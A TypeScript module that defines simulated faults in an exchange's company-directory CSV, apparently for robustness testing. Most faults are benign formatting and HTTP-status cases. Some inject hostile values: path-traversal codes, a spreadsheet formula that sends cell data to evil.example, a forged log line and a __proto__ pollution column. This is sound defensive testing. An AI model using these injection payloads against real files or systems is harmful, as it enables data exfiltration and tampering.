/** Faults of the exchange's list of companies. */
import { SANDBOX_PATHS } from "../paths.ts";
import { inColumn, inOneLine, inTable, inText, withCodes } from "./directory-table.ts";
import { faultsOf, type MakeFault, pick } from "./fault.ts";

/** What the firewall before the older address answers. */
const REQUEST_REJECTED =
  "<html><head><title>Request Rejected</title></head><body>The requested URL was rejected. Please consult with your administrator.</body></html>";

export const DIRECTORY_FAULTS = faultsOf("directory", {
  "directory-html": {
    description: 'a page "Request Rejected" with status 200',
    catalogue: ["A01"],
    effect: "transient",
    make: () => ({ status: 200, contentType: "text/html", body: REQUEST_REJECTED }),
  },
  "older-directory-gone": {
    description: "404, 410, 500 or 503 at the older address",
    catalogue: ["A01", "A16"],
    effect: "transient",
    make: at(SANDBOX_PATHS.olderDirectory, [404, 410, 500, 503]),
  },
  "directory-forbidden": {
    description: "401, 403 or 404 at the current address, as of an access token that is not good any more",
    catalogue: ["A02"],
    effect: "transient",
    make: at(SANDBOX_PATHS.directory, [401, 403, 404]),
  },
  "directory-empty": {
    description: "200 with no bytes",
    catalogue: ["A11", "S12"],
    effect: "transient",
    make: () => ({ status: 200, contentType: "text/csv", body: "" }),
  },
  "directory-header-only": {
    description: "a header and not a single company",
    catalogue: ["A11", "S12"],
    effect: "transient",
    make: inTable((table) => ({ ...table, lines: [] })),
  },
  "directory-truncated": {
    description: "the first half of the lines",
    catalogue: ["A11"],
    effect: "silent",
    make: inTable((table) => ({ ...table, lines: table.lines.slice(0, Math.ceil(table.lines.length / 2)) })),
  },
  "directory-columns": {
    description: "the columns in the reverse order",
    catalogue: ["A03"],
    effect: "harmless",
    make: inTable(({ title, header, lines }) => ({
      title,
      header: header.toReversed(),
      lines: lines.map((line) => line.toReversed()),
    })),
  },
  "directory-title": {
    description: "a title and an empty line above the header",
    catalogue: ["A04"],
    effect: "harmless",
    make: inTable((table) => ({ ...table, title: "ASX listed companies as at Fri May 31 19:30:00 AEST 2024\n\n" })),
  },
  "directory-dates": {
    description: "listing dates in the other form, ISO or day first",
    catalogue: ["A05"],
    effect: "harmless",
    make: inColumn("listed", (date) =>
      date.includes("/") ? date.split("/").toReversed().join("-") : date.split("-").toReversed().join("/"),
    ),
  },
  "directory-epoch-dates": {
    description: "listing dates of 01/01/1970, which stand for unknown ones",
    catalogue: ["A14"],
    effect: "harmless",
    make: inColumn("listed", () => "01/01/1970"),
  },
  "directory-no-caps": {
    description: "market caps that are SUSPENDED, N/A, -- or empty",
    catalogue: ["A06"],
    effect: "harmless",
    make: inColumn("marketCap", (_, index) => ["SUSPENDED", "N/A", "--", ""][index % 4] ?? ""),
  },
  "directory-unnamed": {
    description: "a company without name, industry and listing date",
    catalogue: ["A07"],
    effect: "harmless",
    make: inOneLine(() => ({ name: "", industry: "", listed: "" })),
  },
  "directory-odd-codes": {
    description: "companies more whose codes look like numbers, like nothing or like temporary ones",
    catalogue: ["A08", "A09"],
    effect: "harmless",
    make: withCodes(["360", "NAN", "INF", "TRU", "AWJN", "AFWDA"]),
  },
  "directory-traversal": {
    description: "codes more that are no codes: ../../x and the like",
    catalogue: ["X02", "X04"],
    effect: "detectable",
    make: withCodes(["../../x", "..%2F..%2Fx", "A/B", "CON\u0000"]),
  },
  "directory-duplicate": {
    description: "a company stands there twice",
    catalogue: ["A12"],
    effect: "harmless",
    make: inTable((table, { chance }) => {
      const line = table.lines[Math.floor(chance(0) * table.lines.length)];
      return line === undefined ? table : { ...table, lines: [...table.lines, line] };
    }),
  },
  "directory-formula": {
    description: "a company's name is a formula, such as =HYPERLINK(...)",
    catalogue: ["X01"],
    effect: "harmless",
    make: inOneLine(({ chance }) => ({
      name: pick(
        ['=HYPERLINK("https://evil.example/?"&A1,"prices")', "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1"],
        chance(1),
      ),
    })),
  },
  "directory-quotes": {
    description: "a company's name has commas and quotes in it",
    catalogue: ["A10"],
    effect: "harmless",
    make: inOneLine(() => ({ name: 'SMITH, JONES "AND" SONS, LIMITED.' })),
  },
  "directory-newline": {
    description: "a company's name goes on in another line, which looks like a log's",
    catalogue: ["X09"],
    effect: "harmless",
    make: inOneLine(() => ({ name: 'EVIL\n{"level":"ERROR"}' })),
  },
  "directory-crlf": {
    description: "a byte order mark, and CRLF at the ends of lines",
    catalogue: ["A13"],
    effect: "harmless",
    make: inText((text) => `\ufeff${text.replaceAll(/\r?\n/g, "\r\n")}`),
  },
  "directory-proto": {
    description: "a column more that is called __proto__",
    catalogue: ["X07"],
    effect: "harmless",
    make: inTable(({ title, header, lines }) => ({
      title,
      header: ["__proto__", ...header],
      lines: lines.map((line) => ["polluted", ...line]),
    })),
  },
});

/** One of the statuses, at one of the addresses only. */
function at(path: string, statuses: readonly [number, ...number[]]): MakeFault {
  return (answer, { request, chance }) =>
    request.path === path ? { status: pick(statuses, chance(0)), contentType: "text/html", body: "" } : answer;
}
